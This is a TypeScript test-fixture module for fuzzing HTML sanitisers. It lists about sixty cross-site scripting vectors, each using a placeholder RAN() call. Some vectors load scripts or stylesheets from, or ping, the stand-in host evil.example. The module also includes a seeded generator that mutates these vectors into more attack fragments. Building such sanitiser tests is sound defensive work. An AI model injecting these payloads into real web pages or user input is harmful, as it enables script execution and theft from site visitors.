/**
 * HTML fragments that sanitisers have failed to clean in the past. Each runs a script once in a
 * browser unless the script is removed; `RAN()` stands for the script.
 */
const VECTORS: readonly string[] = [
  '<script>RAN()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<<script>script>RAN()<</script>/script>',
  '<scr<script>ipt>RAN()</scr</script>ipt>',
  '<img src=x onerror=RAN()>',
  '<img src="x` `<script>RAN()</script>"` `>',
  '<svg onload=RAN()>',
  '<svg><script>RAN()</script></svg>',
  '<svg><style><img src=x onerror=RAN()></style></svg>',
  '<svg><animate onbegin=RAN() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RAN()&gt;">',
  '<math><mi//xlink:href="data:x,<script>RAN()</script>">',
  '<xmp><img src=x onerror=RAN()></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=RAN()>"></noscript>',
  '<textarea><img src=x onerror=RAN()></textarea>',
  '<title><img src=x onerror=RAN()></title>',
  '<template><script>RAN()</script></template>',
  '<iframe srcdoc="<script>parent.RAN()</script>"></iframe>',
  '<iframe src="javascript:parent.RAN()"></iframe>',
  '<object data="javascript:RAN()"></object>',
  '<embed src="javascript:RAN()">',
  '<a href="javascript:RAN()">x</a>',
  '<a href="jAvAsCrIpT:RAN()">x</a>',
  '<a href=" \u0001javascript:RAN()">x</a>',
  '<a href="java\tscript:RAN()">x</a>',
  '<a href="javascript&colon;RAN()">x</a>',
  '<a href="&#106;avascript:RAN()">x</a>',
  '<a href="data:text/html,<script>RAN()</script>">x</a>',
  '<a href="vbscript:RAN()">x</a>',
  '<a href="https://ok.example" onclick="RAN()" onmouseover=RAN() style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" target=_top ping="//evil.example">x</a>',
  '<p style="background:url(javascript:RAN())">x</p>',
  '<p onfocus=RAN() tabindex=0 autofocus>x</p>',
  '<input autofocus onfocus=RAN()>',
  '<select autofocus onfocus=RAN()></select>',
  '<details open ontoggle=RAN()>x</details>',
  '<video><source onerror=RAN()></video>',
  '<audio src=x onerror=RAN()>',
  '<body onload=RAN()>',
  '<marquee onstart=RAN()>x</marquee>',
  '<form action="javascript:RAN()"><button>x</button></form>',
  '<button formaction="javascript:RAN()">x</button>',
  '<base href="javascript:RAN()//">',
  '<meta http-equiv=refresh content="0;url=javascript:RAN()">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<!--><img src=x onerror=RAN()>-->',
  '<![CDATA[<img src=x onerror=RAN()>]]>',
  '<?xml version="1.0"?><img src=x onerror=RAN()>',
  '<ul><li><p><b onclick=RAN()>x</b></p></li></ul>',
  '<h2 id="location" name="cookie">x</h2>',
  '<p>\u0000<img src=x onerror=RAN()></p>',
  '<img src=x:x onerror\u000b=RAN()>',
  '<p><strong>x</p></strong><img/src/onerror=RAN()//>',
  '&lt;img src=x onerror=RAN()&gt;',
  '&amp;lt;script&amp;gt;RAN()&amp;lt;/script&amp;gt;',
  '<table><tr><td background="javascript:RAN()">x</td></tr></table>',
  '<frameset onload=RAN()><frame src="javascript:RAN()"></frameset>',
  '<plaintext><script>RAN()</script>',
  '<a href="https://ok.example/?q=<script>RAN()</script>">x</a>',
  '<p dir=rtl>\u202e<script>RAN()</script>مرحبًا</p>',
];

/** A seeded random number generator between 0 and 1 (mulberry32). */
function createRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/**
 * Returns `count` fragments: first each of VECTORS, then changed ones, which are nested, truncated,
 * repeated or written with other characters. The result is the same every time.
 */
export function hostileFragments(count: number): string[] {
  const random = createRandom(2026);
  const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)]!;
  const vector = () => pick(VECTORS);
  const position = (text: string) => Math.floor(random() * (text.length + 1));
  const changes: ((text: string) => string)[] = [
    (text) => `<p>${text}</p>`,
    (text) => `<ul><li>${text}<li>${vector()}</ul>`,
    (text) => `<strong>${text}`,
    (text) => `<a href="https://ok.example">${text}</a>`,
    (text) => text.slice(0, position(text)) + vector(),
    (text) => text.slice(0, position(text)) + vector() + text.slice(position(text)),
    (text) => text.replace(/[a-z]/g, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter)),
    (text) => text.replaceAll('"', pick(['', "'", '`'])),
    (text) => text.replaceAll(' ', pick(['/', '\n', '\t', '\f', '\u00a0'])),
    (text) =>
      `${pick(['<svg>', '<math>', '<table>', '<noscript>', '<style>', '<!--', '<xmp>', '<select>', '<li>', '</p>'])}${text}`,
    (text) => text.replace(/<(\w)/g, (all) => (random() < 0.3 ? `<${all}` : all)),
  ];
  const rest = Array.from({ length: Math.max(0, count - VECTORS.length) }, () => {
    const times = 1 + Math.floor(random() * 3);
    return Array.from({ length: times }).reduce<string>((text) => pick(changes)(text), vector());
  });
  return [...VECTORS, ...rest].slice(0, count);
}
